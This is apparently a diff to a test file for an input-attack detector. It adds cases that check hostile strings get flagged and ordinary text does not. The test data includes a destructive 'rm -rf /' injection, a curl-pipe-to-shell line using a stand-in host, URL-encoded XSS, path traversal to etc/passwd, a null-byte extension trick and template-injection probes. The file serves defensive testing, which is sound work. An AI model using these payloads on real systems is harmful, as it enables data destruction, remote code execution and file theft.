@@ -74,6 +74,13 @@ describe("input attack signals", () => {
       ["__import__('os').system('id')", "code_injection"],
       ["file.txt; rm -rf /", "command_injection"],
       ["$(curl evil.sh | sh)", "command_injection"],
+      ["`whoami`", "command_injection"],
+      // URL-encoded once, overlong UTF-8 and null bytes, template-engine probes.
+      ["%3Cscript%3Ealert(1)%3C/script%3E", "xss"],
+      ["..%c0%af..%c0%afetc/passwd", "path_traversal"],
+      ["invoice.pdf%00.png", "path_traversal"],
+      ["{{7*7}}", "code_injection"],
+      ["${7*7}", "code_injection"],
     ];
     for (const [text, signal] of cases)
       assert.ok(detectInputAttacks(text).includes(signal as never), `${signal}: ${text}`);
@@ -82,6 +89,10 @@ describe("input attack signals", () => {
       "My order #1234 from 2024-01-02",
       "Use the path docs/guide.md",
       "I'd like 2 cats and 1 dog",
+      // Markdown code and jQuery are not shell commands.
+      "Run `npm install` first",
+      "$(document).ready(init)",
+      "Discount 100% off",
     ]) {
       assert.deepEqual(detectInputAttacks(text), [], text);
     }
